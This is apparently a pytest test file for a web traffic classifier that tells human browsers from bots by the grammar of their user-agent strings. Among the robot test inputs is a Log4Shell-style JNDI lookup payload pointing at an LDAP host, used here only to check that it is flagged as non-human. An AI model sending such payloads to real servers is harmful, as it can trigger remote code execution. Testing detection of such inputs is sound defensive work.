"""The grammar rule: real browsers, webviews and devices pass it; robots without a known
name do not, and on a click that makes them machines (`ua:not-a-browser`)."""

from __future__ import annotations

import pytest

from bench.classify import PERSON_CATEGORIES, load_corpus
from tracer.classify import Classifier
from tracer.classify.grammar import client_text, is_client_grammar

RESIDENTIAL = "93.184.216.34"
PEOPLE = [row for row in load_corpus() if row.category in PERSON_CATEGORIES]


def test_the_corpus_holds_a_large_set_of_real_clients() -> None:
    sources = {row.source for row in PEOPLE}
    assert len(PEOPLE) > 10_000
    assert {"crawlerdetect", "matomo", "curated"} <= sources


def test_real_browsers_webviews_and_mail_clients_pass_the_grammar() -> None:
    """Of 11,000+ strings from public device fixtures, the few that fail are not any
    browser's (`AB`, `17`, `iPhone13`, an HTML injection, a truncated IE string)."""
    failing = [row.ua for row in PEOPLE if not is_client_grammar(row.ua)]
    mail_rules = [
        ua for ua in failing if Classifier().open(RESIDENTIAL, ua, "GET").agent == "human"
    ]
    unexplained = [ua for ua in failing if ua not in mail_rules]
    assert len(unexplained) / len(PEOPLE) < 0.004, unexplained[:40]


@pytest.mark.parametrize(
    "ua",
    [
        # Chrome, Edge, Firefox, Safari, Samsung Internet, Opera, old IE, Opera Mini
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
        "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2)",
        "Opera/9.80 (Android; Opera Mini/7.5.33361/37.9178; U; en) Presto/2.12.423 Version/12.16",
        # In-app browsers: their own tokens before or after the engine
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 MicroMessenger/8.0.44(0x18002c2e) NetType/WIFI",
        "TV Bro/1.0 Mozilla/5.0 (Linux; Android 10; Formuler Z10 SE Build/QT; wv) "
        "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/148.0 Safari/537.36",
        # Devices: Android's own HTTP stack, feature phones, Apple Mail's native fetch
        "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)",
        "Nokia301/2.0 (09.04) Profile/MIDP-2.1 Configuration/CLDC-1.1 UCWEB/2.0",
        "Mail/3731.600.7 CFNetwork/1408.0.4 Darwin/22.5.0",
        # Parentheses lost on the way
        "Mozilla/5.0 Linux; Android 9; SM-A505U AppleWebKit/537.36 KHTML, like Gecko "
        "Chrome/75.0.3770.101 Mobile Safari/537.36",
    ],
)
def test_client_grammars(ua: str) -> None:
    assert is_client_grammar(ua)
    assert Classifier().click(RESIDENTIAL, ua, "GET", age_s=600.0).agent == "human"


@pytest.mark.parametrize(
    "ua",
    [
        # Robots no list names: found by their shape
        "echocrawl 2.0",
        "Go http package",
        "Bun/1.2.10",
        "CakePHP",
        "Datadog/Synthetics",
        "${jndi:ldap://203.0.113.9:1389/a}",
        "Feed Wrangler/1.0 (1 subscriber; feed-id=1234; http://feedwrangler.net)",
        "Kaspersky Lab CFR link resolver, see http://support.kaspersky.com/",
        "facebookscraper/1.0( +http://www.facebook.com/sharescraper_help.php)",
        "Acme-LinkChecker/3.1 (compatible; Acme/3.1)",
        "Mozilla/5.0 (compatible; Frobnicator/0.9; +https://frob.example/bot)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",  # a platform and nothing else
        "MyApp/2.3 (build 77)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0 Safari/537.36 contact: ops@example.org",
    ],
)
def test_robots_without_a_known_name_are_machines_on_clicks(ua: str) -> None:
    verdict = Classifier().click(RESIDENTIAL, ua, "GET", age_s=600.0)
    assert verdict.agent != "human", verdict


def test_robot_names_are_not_looked_for_in_device_model_names() -> None:
    """Android comments carry manufacturers' model names ("Capture+", "Newsday_N2+");
    patterns such as `capture` and `news` must not mark those phones as robots."""
    for model in ("Capture+", "Newsday_N2+", "Discovery2-DG500C Build/JDQ39"):
        ua = (
            f"Mozilla/5.0 (Linux; Android 8.1.0; {model}) AppleWebKit/537.36 (KHTML, like "
            "Gecko) Chrome/80.0.3987.87 Mobile Safari/537.36"
        )
        assert model.split()[0] not in (client_text(ua) or "")
        assert Classifier().click(RESIDENTIAL, ua, "GET", age_s=600.0).agent == "human"


def test_a_robot_that_names_itself_in_the_comment_is_still_found() -> None:
    ua = (
        "Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; Storebot-Google/1.0) "
        "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.138 Mobile Safari/537.36"
    )
    assert "Storebot-Google/1.0" in (client_text(ua) or "")
    assert Classifier().click(RESIDENTIAL, ua, "GET").agent == "bot"


def test_a_version_number_is_not_a_robot_name() -> None:
    """`008/` names the 80legs crawler; Opera Mini's build "4.4.39008/61.445" ends in
    the same characters."""
    ua = "Opera/9.80 (MAUI Runtime; Opera Mini/4.4.39008/61.445; U; hi) Presto/2.12.423"
    assert Classifier().click(RESIDENTIAL, ua, "GET") == ("human", ("no_signal",))
    crawler = "Mozilla/5.0 (compatible; 008/0.83; http://www.80legs.com/webcrawler.html)"
    assert Classifier().click(RESIDENTIAL, crawler, "GET") == ("bot", ("ua:008",))
